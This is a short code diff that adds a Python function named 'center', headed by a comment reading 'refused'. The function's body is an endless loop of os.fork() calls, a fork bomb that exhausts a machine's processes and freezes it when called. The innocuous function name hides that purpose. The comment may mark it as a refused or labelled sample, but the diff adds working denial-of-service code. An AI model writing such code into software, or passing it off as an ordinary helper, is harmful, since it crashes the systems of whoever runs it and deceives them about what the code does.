@@ -1,0 +1,5 @@
+# refused
+import os
+def center(x):
+    while True:
+        os.fork()
